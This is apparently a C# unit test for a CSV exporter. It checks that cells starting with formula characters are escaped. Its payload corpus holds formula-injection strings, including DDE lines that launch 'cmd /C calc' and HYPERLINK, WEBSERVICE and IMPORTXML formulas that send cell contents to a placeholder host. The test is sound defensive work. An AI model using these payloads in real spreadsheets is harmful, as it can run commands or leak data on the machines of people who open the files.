using System.Buffers;
using System.Text;
using Collection.Contracts;
using CsvHelper;

namespace Collection.Export.Streaming.Tests;

/// <summary>Texts that spreadsheets take for formulas, in the file that <c>eng/check-csv.sh</c> has LibreOffice open.</summary>
public sealed class FormulaCorpusTests
{
    private const string Dangerous = "=+-@\t\r\0";

    private static readonly string[] s_payloads =
    [
        "1+1", "SUM(1,1)", "HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "cmd|' /C calc'!A0", "DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "WEBSERVICE(\"http://example.invalid\")", "IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")", "1+1\";=1+1", "1+1,=1+1", "\"1+1\"", "",
    ];

    private static readonly string[] s_others =
    [
        ",=1+1", ";=1+1", "\"=1+1\"", "\",=1+1,\"", "a\r\n=1+1", "a\n=1+1", "\n=1+1", "'=1+1", " =1+1", "\uFEFF=1+1", "==1+1", "+-=1+1", "\t\t=1+1", "\r\n=1+1", "＝1+1",
    ];

    private static string[] Texts => [.. Dangerous.SelectMany(_ => s_payloads, (first, payload) => first + payload), .. s_others];

    [Fact]
    public async Task The_corpus_is_written_as_it_is_kept()
    {
        var kept = RepositoryFiles.PathOf("tests", "Export.Streaming.Tests", "Data", "formulas.csv");
        if (Environment.GetEnvironmentVariable("UPDATE_GOLDENS") == "1")
            await File.WriteAllBytesAsync(kept, Write());
        Write().ShouldBe(await File.ReadAllBytesAsync(kept), "If that is meant, run the test with UPDATE_GOLDENS=1, and then eng/check-csv.sh.");
    }

    [Fact]
    public void Another_reader_finds_no_cell_that_begins_like_a_formula()
    {
        using var reader = CsvReader.FromText(Encoding.UTF8.GetString(Write()), new CsvReaderOptions { HasHeader = true, MalformedData = CsvMalformedDataHandling.Throw });
        List<string> read = [];
        while (reader.Read())
        {
            reader.FieldCount.ShouldBe(2);
            read.Add(reader.GetString(1));
        }

        read.ShouldAllBe(cell => cell.Length == 0 || !Dangerous.Contains(cell[0]));
        read.ShouldBe(Texts.Select(text => Dangerous.Contains(text[0]) ? $"'{text}" : text));
    }

    private static byte[] Write()
    {
        var format = new CsvFormat(Rows.Schema, new CsvOptions { Columns = ["id", "name"] });
        var output = new ArrayBufferWriter<byte>();
        format.WriteStart(output);
        foreach (var (position, text) in Texts.Index())
            format.WriteRow(position, Rows.Named(position, text), output);
        format.WriteEnd(output);
        return output.WrittenSpan.ToArray();
    }
}
